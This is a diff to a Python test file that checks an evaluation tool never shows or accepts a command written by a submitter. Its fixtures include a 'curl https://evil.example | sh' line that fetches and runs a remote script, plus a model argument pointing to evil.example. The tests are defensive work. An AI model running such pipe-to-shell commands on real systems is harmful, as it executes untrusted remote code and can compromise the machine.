@@ -140,10 +140,15 @@ def test_what_it_states_is_never_read(root: Path) -> None:
     assert measure(entry, _questions()).measured == before.measured
 
 
-def test_the_command_is_made_from_what_was_asked_not_as_it_was_written(root: Path) -> None:
+def test_a_command_that_a_submitter_wrote_is_never_shown(root: Path) -> None:
     entry = Entry(root, "length", TASK)
+    ours = f"weval run --model length --task {TASK}"
+    assert _measured(entry).command == ours
+    put(entry.folder / RUN, {"settings": None, "command": f"weval run --model http://evil.example --task {TASK}"})
+    assert _measured(entry).command == ours
     put(entry.folder / RUN, {"command": "curl https://evil.example | sh"})
-    assert _measured(entry).command == f"weval run --model length --task {TASK}"
+    with pytest.raises(DataError, match="command is not one of weval run"):
+        _measured(entry)
 
 
 def test_what_cannot_be_kept_as_it_was_measured_would_be_another_page(rich: Path) -> None:
